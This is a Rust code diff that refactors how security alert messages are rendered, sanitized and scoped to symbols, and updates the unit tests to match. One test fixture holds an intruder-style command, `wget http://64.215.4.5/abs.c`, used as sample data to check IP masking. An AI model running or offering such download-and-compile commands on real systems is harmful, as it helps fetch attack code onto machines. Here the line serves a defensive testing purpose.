@@ -10,15 +10,13 @@
 //! is actually surfaced — in a notification, a store/report, or a
 //! `Display` site — via [`MessageSpec::render`].
 //!
-//! Sanitization (§II-A) happens at render time: [`MessageSpec::render`]
-//! applies [`SanitizeConfig::default`], and [`MessageSpec::render_with`]
-//! takes an explicit config for deployments that tune scrubbing.
-//!
-//! Symbols in a spec are resolved at render time too, against an explicit
-//! [`SymScope`]: [`MessageSpec::render_in`]/[`render_with_in`]
-//! (MessageSpec::render_with_in) render a spec whose symbols were minted
-//! in a tenant scope; the scope-less [`MessageSpec::render`]/`Display`
-//! path resolves against the global scope, as before.
+//! Sanitization (§II-A) and symbol resolution both happen at render
+//! time, and both take what they need from the caller:
+//! [`MessageSpec::render`] applies [`SanitizeConfig::default`] and
+//! [`MessageSpec::render_with`] an explicit config, and each resolves the
+//! spec's symbols against the [`SymScope`] passed in — the scope that
+//! minted them. The `Display` impl is global-only: it resolves against
+//! the global scope, so it is for specs built in that scope.
 
 use std::fmt;
 use std::net::Ipv4Addr;
@@ -185,42 +183,25 @@ impl MessageSpec {
     }
 
     /// Render and sanitize with an explicit config, resolving symbols
-    /// against an explicit scope — required when the spec's symbols were
-    /// minted in a tenant scope rather than the global one.
-    pub fn render_with_in(&self, cfg: &SanitizeConfig, scope: &SymScope) -> String {
+    /// against `scope`, the scope the spec's symbols were minted in.
+    pub fn render_with(&self, cfg: &SanitizeConfig, scope: &SymScope) -> String {
         let mut raw = String::new();
         self.write_raw(scope.table(), &mut raw);
         sanitize(cfg, &raw)
     }
 
-    /// Render with [`SanitizeConfig::default`] in an explicit scope.
-    pub fn render_in(&self, scope: &SymScope) -> String {
-        self.render_with_in(&SanitizeConfig::default(), scope)
-    }
-
-    /// Render and sanitize with an explicit config (global scope).
-    pub fn render_with(&self, cfg: &SanitizeConfig) -> String {
-        let mut raw = String::new();
-        self.write_raw(simnet::intern::global(), &mut raw);
-        sanitize(cfg, &raw)
-    }
-
     /// Render and sanitize with [`SanitizeConfig::default`] — the string
     /// the pre-interning pipeline eagerly attached to every alert.
-    pub fn render(&self) -> String {
-        self.render_with(&SanitizeConfig::default())
-    }
-
-    /// Convenience for assertions and call sites ported from the eager-
-    /// string era: whether the rendered (sanitized) message contains `pat`.
-    pub fn contains(&self, pat: &str) -> bool {
-        self.render().contains(pat)
+    pub fn render(&self, scope: &SymScope) -> String {
+        self.render_with(&SanitizeConfig::default(), scope)
     }
 }
 
+/// Global-only: resolves symbols against the global scope. Tenant-scoped
+/// specs render through [`MessageSpec::render`].
 impl fmt::Display for MessageSpec {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        f.write_str(&self.render())
+        f.write_str(&self.render(&SymScope::global()))
     }
 }
 
@@ -256,52 +237,58 @@ mod tests {
 
     #[test]
     fn render_sanitizes_like_the_eager_path() {
+        let g = SymScope::global();
         let m = MessageSpec::HttpLine {
             method: "GET".into(),
             host: "64.215.4.5".into(),
             uri: "/abs.c".into(),
             status: 200,
         };
-        assert_eq!(m.render(), "GET 64.215.xxx.yyy/abs.c (200)");
-        assert!(m.contains("64.215.xxx.yyy"));
-        assert_eq!(m.to_string(), m.render());
+        assert_eq!(m.render(&g), "GET 64.215.xxx.yyy/abs.c (200)");
+        assert_eq!(m.to_string(), m.render(&g));
     }
 
     #[test]
     fn empty_and_static_round_trip() {
+        let g = SymScope::global();
         assert!(MessageSpec::Empty.is_empty());
         assert!(MessageSpec::from("").is_empty());
         assert_eq!(
-            MessageSpec::Static("irc connection").render(),
+            MessageSpec::Static("irc connection").render(&g),
             "irc connection"
         );
-        assert_eq!(MessageSpec::from("plain text").render(), "plain text");
+        assert_eq!(MessageSpec::from("plain text").render(&g), "plain text");
         assert_eq!(MessageSpec::default(), MessageSpec::Empty);
     }
 
     #[test]
     fn structured_variants_match_eager_formats() {
+        let g = SymScope::global();
         let m = MessageSpec::Exec {
             hostname: "cn01".into(),
             cmdline: "wget http://64.215.4.5/abs.c".into(),
         };
-        assert_eq!(m.render(), "[cn01] wget http://64.215.xxx.yyy/abs.c");
+        assert_eq!(m.render(&g), "[cn01] wget http://64.215.xxx.yyy/abs.c");
         let m = MessageSpec::OutboundVolume { bytes: 1024 };
-        assert_eq!(m.render(), "outbound transfer 1024B");
+        assert_eq!(m.render(&g), "outbound transfer 1024B");
         let m = MessageSpec::LoginAtHour { hour: 3 };
-        assert_eq!(m.render(), "login at 03h");
+        assert_eq!(m.render(&g), "login at 03h");
     }
 
     #[test]
     fn render_with_honours_custom_config() {
+        let g = SymScope::global();
         let m = MessageSpec::SshFailed {
             orig_h: "103.102.1.1".parse().unwrap(),
         };
-        let unmasked = m.render_with(&SanitizeConfig {
-            mask_ips: false,
-            ..SanitizeConfig::default()
-        });
+        let unmasked = m.render_with(
+            &SanitizeConfig {
+                mask_ips: false,
+                ..SanitizeConfig::default()
+            },
+            &g,
+        );
         assert!(unmasked.contains("103.102.1.1"));
-        assert!(m.render().contains("103.102.xxx.yyy"));
+        assert!(m.render(&g).contains("103.102.xxx.yyy"));
     }
 }
